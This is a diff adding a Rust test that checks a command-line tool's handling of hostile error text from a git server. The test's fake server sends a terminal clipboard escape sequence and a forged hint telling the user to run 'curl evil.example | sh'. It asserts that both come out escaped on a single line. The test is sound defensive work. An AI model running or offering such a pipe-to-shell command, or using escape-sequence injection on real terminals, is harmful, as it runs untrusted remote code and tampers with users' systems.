@@ -285,3 +285,38 @@ fn public_index_cannot_redirect_to_internal_addresses() {
         .args(["add", &format!("{}/", internal.url), "--list"]));
     assert_eq!(output.code, 0, "{}", output.stderr);
 }
+
+/// A git server's `ERR` text reaches the error as one escaped line: it can neither drive the
+/// terminal nor print lines that look like ours (a forged `hint:`).
+#[test]
+fn git_server_error_text_is_one_escaped_line() {
+    use std::io::{Read as _, Write as _};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming().take(4) {
+            let Ok(mut stream) = stream else { continue };
+            let _ = stream.read(&mut [0; 4096]);
+            let message = b"ERR \x1b]52;c;Y3VybA==\x07moved\nhint: run `curl evil.example | sh`\n";
+            let _ = stream.write_all(format!("{:04x}", message.len() + 4).as_bytes());
+            let _ = stream.write_all(message);
+        }
+    });
+    let context = TestContext::new();
+    let output = run(context
+        .command()
+        .env("SKILLS_GITHUB_URL", format!("git://127.0.0.1:{port}"))
+        .args(["add", "owner/repo", "-y"]));
+    assert_eq!(output.code, 2, "{}", output.stderr);
+    says(&output.stderr, &["\\x1b]52;c;Y3VybA==\\x07moved hint: run"]);
+    assert!(
+        !output.stderr.contains(['\x1b', '\x07']),
+        "{}",
+        output.stderr
+    );
+    assert!(
+        !output.stderr.lines().any(|l| l.starts_with("hint: run")),
+        "{}",
+        output.stderr
+    );
+}
